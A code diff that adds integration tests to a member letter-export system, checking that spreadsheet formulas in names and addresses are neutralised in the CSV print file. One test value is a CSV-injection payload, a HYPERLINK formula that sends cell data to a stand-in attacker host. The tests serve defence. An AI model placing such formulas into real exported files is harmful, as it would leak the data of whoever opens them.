@@ -9,7 +9,8 @@ import { LocalHmacKey } from '../../lambdas/adapters/keys/local-key-files.ts';
 import { LocalLetterFiles } from '../../lambdas/adapters/letters/local-letter-files.ts';
 import { CodeHasher, OWASP_MINIMUM } from '../../lambdas/domain/code-hashing.ts';
 import { nirLookupKey } from '../../lambdas/domain/credential-check.ts';
-import { LetterExport, LetterQueue, temporaryCodeFor } from '../../lambdas/domain/letters.ts';
+import { csvField, LetterExport, LetterQueue, temporaryCodeFor } from '../../lambdas/domain/letters.ts';
+import { newId } from '../../lambdas/domain/random-secrets.ts';
 import { importMember } from '../../lambdas/domain/member-import.ts';
 import { liveCodes } from '../../lambdas/domain/member.ts';
 import type { LetterFiles, LetterStore, SecurityEvents } from '../../lambdas/domain/ports.ts';
@@ -52,7 +53,7 @@ async function membersWithLetters(count: number) {
     const nir = uniqueNir();
     await importMember(
       { nir, lastName: `Nom${i}`, firstName: 'Prénom', email: '', addressLine1: `${i} rue, "bis"`, addressLine2: '', postalCode: '75001', city: 'Paris', country: 'FR', clientId: '', initialCode: '469135' },
-      { members, nirHasher, codeHasher, clock },
+      { members, nirHasher, codeHasher, clock, initialCodeValidDays: 365 },
     );
     const key = await nirLookupKey(nirHasher, nir);
     expect(await queue.request((await members.get(key))!, 'MEMBER', `r${i}`)).toBe('QUEUED');
@@ -141,6 +142,47 @@ describe('letter export against DynamoDB Local', () => {
     }
     // No partial file is ever left as a final one.
     expect((await readdir(dir)).every((f) => f.endsWith('.csv') || f.endsWith('.partial'))).toBe(true);
+  });
+
+  it('a formula in a name or an address (imported before the rule) reaches the print file neutralised', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'letters-formula-'));
+    await exporter(await mkdtemp(join(tmpdir(), 'letters-before-'))).run();
+    const members = new DynamoMemberRepository(table);
+    const key = newId();
+    const formula = '=HYPERLINK("https://evil.example/?x="&I2,"Cliquez")';
+    await members.upsertProfile(
+      {
+        key,
+        newMemberId: newId(),
+        newCodeSalt: codeHasher.newSalt(),
+        firstName: '@SUM(1)',
+        lastName: formula,
+        maskedNir: 'x',
+        address: { line1: '+33 rue', line2: '-', postalCode: '75001', city: 'Paris', country: 'FR' },
+      },
+      Date.now(),
+    );
+    await new LetterQueue({ letters: new DynamoLetterStore(table), clock, events }).request((await members.get(key))!, 'CUSTOMER_SERVICE', 'r');
+    await exporter(dir).run();
+    const [row] = (await exportedRows(dir)).filter((r) => r[1]!.includes('HYPERLINK'));
+    expect(row!.slice(1, 5)).toEqual([`"'${formula.replace(/"/g, '""')}"`, "'@SUM(1)", "'+33 rue", "'-"]);
+    // No field of the file starts with what a spreadsheet reads as a formula.
+    for (const field of row!) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row![0]).toMatch(/^L/);
+  });
+
+  it('csvField neutralises every formula start, and quotes what needs quoting', () => {
+    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '012345', 'a,b', 'say "hi"'].map(csvField)).toEqual([
+      "'=1",
+      "'+1",
+      "'-1",
+      "'@1",
+      "'\t1",
+      `"'\r1"`,
+      '012345',
+      '"a,b"',
+      '"say ""hi"""',
+    ]);
   });
 
   it('derives the same temporary code for a letter on every run, and a different one per letter', async () => {
